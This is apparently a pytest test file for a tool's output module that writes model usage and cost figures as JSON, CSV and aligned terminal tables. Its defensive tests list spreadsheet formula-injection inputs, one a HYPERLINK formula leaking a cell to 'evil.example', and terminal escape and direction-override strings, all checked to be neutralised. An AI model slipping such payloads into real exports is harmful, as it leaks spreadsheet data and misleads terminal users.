"""Rows come out exact for programs and readable for people, and hurt neither terminal nor spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest

from router.output import (
    Data,
    Table,
    csv_line,
    decimals_for,
    one_line,
    rounded_usd,
    to_csv,
    to_json,
    to_text,
    width,
)

COLUMNS = ("model", "answers", "cost_usd")
LONG = Decimal("12345678901234567890.000000000001")
TINY = Decimal("1E-12")


def data_of(*rows: tuple[str | int | Decimal | None, ...], total: tuple[int | Decimal, ...] = ()) -> Data:
    """Make rows of a model, its answers and their cost."""
    return Data(COLUMNS, rows, total, {"month": "2026-11"})


def table_of(*rows: tuple[str | int | Decimal | None, ...], **rest: tuple[str | int | Decimal, ...]) -> str:
    """Write a table of such rows."""
    return to_text(Table("Title", ("model", "answers", "cost"), rows, rest.get("total", ())))


def read_csv(text: str) -> list[list[str]]:
    """Read CSV as a program does."""
    return list(csv.reader(io.StringIO(text, newline="")))


def test_json_holds_every_digit() -> None:
    """Amounts are strings with all their digits, never numbers that a program would round, nor exponents."""
    written = json.loads(to_json(data_of(("a/b", 3, LONG), ("c/d", 1, TINY), total=(4, LONG + TINY))))

    assert written == {
        "month": "2026-11",
        "rows": [
            {"model": "a/b", "answers": 3, "cost_usd": "12345678901234567890.000000000001"},
            {"model": "c/d", "answers": 1, "cost_usd": "0.000000000001"},
        ],
        "total": {"answers": 4, "cost_usd": str(LONG + TINY)},
    }


def test_json_is_plain_ascii() -> None:
    """Names in any script survive a terminal that knows ASCII alone."""
    written = to_json(data_of(("模型/é\udcff", 1, TINY)))

    assert written.isascii()
    assert json.loads(written)["rows"][0]["model"] == "模型/é\udcff"


def test_what_is_unknown_is_nothing() -> None:
    """A missing figure is null in JSON, an empty cell in CSV and in a table."""
    assert json.loads(to_json(data_of(("a/b", 1, None))))["rows"][0]["cost_usd"] is None
    assert read_csv(to_csv(data_of(("a/b", 1, None))))[1] == ["a/b", "1", ""]
    assert table_of(("a/b", 1, None)).splitlines()[-1].split() == ["a/b", "1"]


def test_csv_holds_every_digit() -> None:
    """The first line names the columns; amounts have all their digits; the total is the reader's to make."""
    rows = read_csv(to_csv(data_of(("a/b", 3, LONG), ("c/d", 1, TINY), total=(4, LONG))))

    assert rows == [
        list(COLUMNS),
        ["a/b", "3", "12345678901234567890.000000000001"],
        ["c/d", "1", "0.000000000001"],
    ]


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example?x="&A1,"click")',
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\uff1d1+1",
    ],
)
def test_no_name_becomes_a_formula(name: str) -> None:
    """A cell that a spreadsheet would compute begins with an apostrophe, and is else as it was."""
    (cell,) = read_csv(csv_line((name,)))[0]

    assert cell == f"'{name}"


def test_negative_amounts_stay_numbers() -> None:
    """Guarding against formulas does not turn a number into a text."""
    assert csv_line((Decimal("-0.50"), -3)) == "-0.50,-3"


@pytest.mark.parametrize("name", ['a,"b"', "two\nlines", "two\r\nlines", "", "'quoted'"])
def test_csv_keeps_names_whole(name: str) -> None:
    """Separators, quotes and line ends in a name are part of one cell."""
    assert read_csv(to_csv(data_of((name, 1, TINY))))[1:] == [[name, "1", "0.000000000001"]]


def test_a_table_is_aligned() -> None:
    """Names lean left, figures right, with the total below a rule."""
    text = table_of(
        ("vendor/long-name", 1234, Decimal("1.5")), ("v/m", 5, Decimal(20)), total=("total", 1239, LONG)
    )

    assert text.splitlines() == [
        "Title",
        "",
        "model             answers                            cost",
        "---------------------------------------------------------",
        "vendor/long-name    1,234                           $1.50",
        "v/m                     5                          $20.00",
        "---------------------------------------------------------",
        "total               1,239  $12,345,678,901,234,567,890.00",
    ]


@pytest.mark.parametrize("name", ["模型/大", "e\u0301te\u0301", "\uff46\uff55\uff4c\uff4c", "🙂🙂", "plain"])
def test_wide_characters_keep_the_columns(name: str) -> None:
    """Characters that take two columns, or none, move no figure out of its column."""
    lines = table_of((name, 7, Decimal(1)), ("vendor/model", 7, Decimal(1))).splitlines()

    assert width(lines[-2]) == width(lines[-1])
    assert lines[-2].endswith("      7  $1.00")


@pytest.mark.parametrize(
    ("text", "columns"),
    [("", 0), ("abc", 3), ("模型", 4), ("e\u0301", 1), ("\uff46", 2), ("ﾊ", 1), ("🙂", 2)],
)
def test_width_is_what_a_terminal_shows(text: str, columns: int) -> None:
    """The width of a text is counted in columns of a terminal."""
    assert width(text) == columns


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("\x1b[2Jgone", r"\x1b[2Jgone"),
        ("two\nlines", r"two\nlines"),
        ("\u202emoney", r"\u202emoney"),
        ("a\x00\x07b", r"a\x00\x07b"),
        ("\udcff", r"\udcff"),
        ("Zoë 模型", "Zoë 模型"),
    ],
)
def test_a_name_cannot_command_the_terminal(name: str, shown: str) -> None:
    """Escapes, line ends and marks of direction are shown, not obeyed, in rows as in titles."""
    assert one_line(name) == shown
    assert table_of((name, 1, Decimal(1))).splitlines()[4].startswith(shown)
    assert to_text(Table(name, (), ())).startswith(shown)


def test_a_table_without_rows_is_its_title_and_notes() -> None:
    """Nothing is shown as a sentence, not as an empty grid."""
    assert (
        to_text(Table("Title", COLUMNS, (), ("total", 0, Decimal(0)), ("Nothing yet.",)))
        == "Title\n\nNothing yet."
    )


def test_notes_stand_below_a_table() -> None:
    """What a reader has to know beside the figures comes last."""
    text = to_text(Table("Title", ("model", "cost"), (("a/b", Decimal(1)),), notes=("Mind this.",)))

    assert text.splitlines()[-2:] == ["", "Mind this."]


def test_empty_data_is_still_data() -> None:
    """No rows are an empty list in JSON, and the names of the columns alone in CSV."""
    assert json.loads(to_json(data_of())) == {"month": "2026-11", "rows": []}
    assert to_csv(data_of()) == "model,answers,cost_usd"


@pytest.mark.parametrize(
    ("amounts", "shown"),
    [
        (("12.345", "0.10"), ("$12.35", "$0.10")),
        (("12.345", "0.0999"), ("$12.3450", "$0.0999")),
        (("1", "0.00005"), ("$1.000000", "$0.000050")),
        (("1", "0.0000004"), ("$1.000000", "<$0.000001")),
        (("1", "0"), ("$1.00", "$0.00")),
        (("-1.5", "1234567.891"), ("-$1.50", "$1,234,567.89")),
        (("0.125",), ("$0.13",)),
    ],
)
def test_a_column_of_dollars_has_one_number_of_decimals(
    amounts: tuple[str, ...], shown: tuple[str, ...]
) -> None:
    """Points stand below each other, the smallest amount can be read, and something is never nothing."""
    column = [Decimal(amount) for amount in amounts]

    assert tuple(rounded_usd(amount, decimals_for(column)) for amount in column) == shown
